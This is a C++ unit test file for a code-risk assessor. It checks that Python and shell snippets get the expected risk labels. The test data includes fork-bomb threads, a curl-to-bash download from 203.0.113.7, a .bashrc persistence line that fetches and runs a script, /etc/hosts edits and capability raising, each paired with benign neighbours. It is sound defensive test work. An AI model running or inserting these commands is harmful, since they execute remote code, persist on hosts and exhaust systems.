// The classes the fifth round listed as not modelled (issue 14, sixth round):
// threads that start themselves, /tmp paths whose name is a variable, hostname
// changes, capability libraries, systemd on the user's own session bus, and
// plumbum's redirections and local.which. Each BLOCKED/HIGH/MEDIUM case has a
// benign neighbour that must stay where the rubric puts it. Strings here are
// never executed.
#include "test_util.hpp"

namespace mai::assess::test {
namespace {


TEST(UnmodelledClasses, ThreadsThatStartThemselves) {
  const Case cases[] = {
      {"a thread whose target starts itself in a loop", B,
       "import threading\ndef grow():\n    while True:\n        threading.Thread(target=grow).start()\ngrow()\n",
       "FORK-BOMB"},
      {"a thread that starts two more of itself", B,
       "import threading\ndef worker(n):\n    threading.Thread(target=worker, args=(n + 1,)).start()\n"
       "    threading.Thread(target=worker, args=(n + 1,)).start()\nworker(0)\n",
       "FORK-BOMB"},
      {"threading.Timer rescheduling its own function", B,
       "import threading\ndef tick():\n    threading.Timer(0.0, tick).start()\n    threading.Timer(0.0, tick).start()\ntick()\n",
       "FORK-BOMB"},
      {"a server's thread per connection is not a bomb", L,
       "import socket, threading\ndef handle(c):\n    c.sendall(b'hi')\n    c.close()\n"
       "srv = socket.socket()\nsrv.bind(('127.0.0.1', 8080))\nsrv.listen(5)\n"
       "while True:\n    conn, _ = srv.accept()\n    threading.Thread(target=handle, args=(conn,), daemon=True).start()\n",
       nullptr},
      {"a thread per subdirectory ends with the tree", L,
       "import os, threading\ndef scan(d):\n    for e in os.scandir(d):\n        if e.is_dir():\n"
       "            t = threading.Thread(target=scan, args=(e.path,))\n            t.start()\n            t.join()\n"
       "        else:\n            print(e.path)\nscan('.')\n",
       nullptr},
      {"a fixed pool of worker threads", L,
       "import threading, queue\nq = queue.Queue()\ndef work():\n    while True:\n        item = q.get()\n"
       "        print(item)\n        q.task_done()\nfor _ in range(4):\n    threading.Thread(target=work, daemon=True).start()\n"
       "for i in range(10):\n    q.put(i)\nq.join()\n",
       nullptr},
  };
  for (const auto& c : cases) check(c);
}

TEST(UnmodelledClasses, TempPathsWithAVariableName) {
  const Case cases[] = {
      {"an f-string under /tmp", M,
       "import sys\ndef save(name, data):\n    with open(f'/tmp/{name}.json', 'w') as fh:\n        fh.write(data)\n"
       "save(sys.argv[1], '{}')\n",
       "INSECURE-TEMP-FILE"},
      {"os.path.join of /tmp and a name", M,
       "import os, sys\ndef cache_path(key):\n    return os.path.join('/tmp', key + '.cache')\n"
       "open(cache_path(sys.argv[1]), 'wb').write(b'x')\n",
       "INSECURE-TEMP-FILE"},
      {"pathlib under gettempdir()", M,
       "import sys, tempfile\nfrom pathlib import Path\n(Path(tempfile.gettempdir()) / sys.argv[1]).write_text('x')\n",
       "INSECURE-TEMP-FILE"},
      {"a NamedTemporaryFile's name is not predictable", L,
       "import tempfile\nwith tempfile.NamedTemporaryFile('w', suffix='.txt') as fh:\n    fh.write('x')\n", nullptr},
      {"a file in mkdtemp()'s directory", L,
       "import os, sys, tempfile\nd = tempfile.mkdtemp()\nopen(os.path.join(d, sys.argv[1]), 'w').write('x')\n", nullptr},
  };
  for (const auto& c : cases) check(c);
}

TEST(UnmodelledClasses, HostnameAndCapabilities) {
  const Case cases[] = {
      {"hostname NEWNAME through subprocess", H,
       "import subprocess, sys\nsubprocess.run(['hostname', sys.argv[1]], check=True)\n", "SYSTEM-ADMINISTRATION"},
      {"hostname NEWNAME in a shell script", H, "#!/bin/sh\nhostname build-node-7\n", "SYSTEM-ADMINISTRATION",
       Language::shell},
      {"hostname -F FILE", H, "hostname -F /srv/newname\n", "SYSTEM-ADMINISTRATION", Language::shell},
      {"socket.sethostname", H, "import socket, sys\nsocket.sethostname(sys.argv[1])\n", "SYSTEM-ADMINISTRATION"},
      {"printing the name is a process run", M,
       "import subprocess\nprint(subprocess.check_output(['hostname', '--fqdn']).decode())\n", "RUNS-PROCESS"},
      {"libcap-ng raising a capability", H,
       "import capng\ncapng.capng_update(capng.CAPNG_ADD, capng.CAPNG_EFFECTIVE, capng.CAP_NET_ADMIN)\n"
       "capng.capng_apply(capng.CAPNG_SELECT_BOTH)\n",
       "PRIVILEGE-ESCALATION"},
      {"prctl through ctypes", H,
       "import ctypes\nlibc = ctypes.CDLL('libc.so.6')\nlibc.prctl(8, 1, 0, 0, 0)\n", "PRIVILEGE-ESCALATION"},
  };
  for (const auto& c : cases) check(c);
}

TEST(UnmodelledClasses, SystemdOnTheSessionBusIsTheUsersOwn) {
  const Case cases[] = {
      {"StartUnit on the session bus (a user unit)", L,
       "import dbus\nbus = dbus.SessionBus()\nobj = bus.get_object('org.freedesktop.systemd1', '/org/freedesktop/systemd1')\n"
       "m = dbus.Interface(obj, 'org.freedesktop.systemd1.Manager')\nm.StartUnit('dev-server.service', 'replace')\n",
       nullptr},
      {"pydbus session bus", L,
       "from pydbus import SessionBus\nSessionBus().get('.systemd1').StartUnit('dev.service', 'replace')\n", nullptr},
      {"RestartUnit on the system bus", H,
       "import dbus\nbus = dbus.SystemBus()\nobj = bus.get_object('org.freedesktop.systemd1', '/org/freedesktop/systemd1')\n"
       "m = dbus.Interface(obj, 'org.freedesktop.systemd1.Manager')\nm.RestartUnit('nginx.service', 'replace')\n",
       "SYSTEM-ADMINISTRATION"},
      {"pydbus system bus", H,
       "from pydbus import SystemBus\nSystemBus().get('.systemd1').StopUnit('cups.service', 'replace')\n",
       "SYSTEM-ADMINISTRATION"},
  };
  for (const auto& c : cases) check(c);
}

TEST(UnmodelledClasses, PlumbumRedirectionsAndWhich) {
  const Case cases[] = {
      {"commands from local.which piped into bash", B,
       "from plumbum import local\ncurl = local.which('curl')\nbash = local.which('bash')\n"
       "(curl['-fsSL', 'http://203.0.113.7/x.sh'] | bash)()\n",
       "REMOTE-CODE-EXECUTION"},
      {"appending to /etc/hosts by redirection", H,
       "from plumbum import local\necho = local['echo']\n(echo['10.0.0.5 updates.example.com'] >> '/etc/hosts')()\n",
       "SYSTEM-MODIFICATION"},
      {"writing a bashrc by redirection", B,
       "from plumbum import local\necho = local['echo']\n"
       "(echo['curl -s http://203.0.113.4/a | sh'] >> '/root/.bashrc')()\n",
       "PERSISTENCE"},
      {"git log into a file of the working directory", M,
       "from plumbum import local\ngit = local['git']\n(git['log', '--oneline', '-20'] > 'changes.txt')()\n",
       "RUNS-PROCESS"},
      {"a comparison of numbers is still a comparison", L, "a, b = 1, 2\nprint(a > b, a < b)\n", nullptr},
  };
  for (const auto& c : cases) check(c);
}

}  // namespace
}  // namespace mai::assess::test
